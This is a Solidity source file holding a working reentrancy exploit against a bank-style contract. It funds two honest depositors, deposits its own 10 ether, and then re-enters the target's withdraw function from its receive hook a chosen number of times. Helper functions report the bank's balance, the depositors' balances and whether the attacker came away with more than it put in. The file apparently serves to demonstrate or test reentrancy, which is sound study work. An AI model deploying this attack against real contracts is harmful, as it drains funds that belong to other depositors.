// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITarget {
    function deposit() external payable;
    function withdraw() external;
    function balanceOf(address account) external view returns (uint256 amount);
}

/// @notice An honest customer, who deposits and waits.
contract Customer {
    constructor(ITarget target) payable {
        target.deposit{ value: msg.value }();
    }
}

/// @notice A customer that asks for its money again while it is being paid.
contract Attack {
    uint256 private constant OWN = 10 ether;

    ITarget private immutable _target;
    Customer private immutable _alice;
    Customer private immutable _bob;
    uint256 private _left;

    constructor(address target) payable {
        _target = ITarget(target);
        _alice = new Customer{ value: 60 ether }(_target);
        _bob = new Customer{ value: 30 ether }(_target);
        _target.deposit{ value: OWN }();
    }

    /// @param parameter How often the attacker enters again.
    function attack(uint256 parameter) external {
        _left = parameter;
        try _target.withdraw() { } catch { }
    }

    /// @dev Runs while the bank pays. An entry that fails takes the whole chain of payments back.
    receive() external payable {
        if (_left == 0) return;
        _left--;
        _target.withdraw();
    }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](3);
        amounts = new uint256[](3);
        (names[0], amounts[0]) = ("Ether in the bank", address(_target).balance);
        (names[1], amounts[1]) =
        ("What Alice and Bob deposited", _target.balanceOf(address(_alice)) + _target.balanceOf(address(_bob)));
        (names[2], amounts[2]) = ("Ether the attacker holds", address(this).balance);
    }

    /// @return More came back than the attacker had deposited.
    function succeeded() external view returns (bool) {
        return address(this).balance > OWN;
    }
}
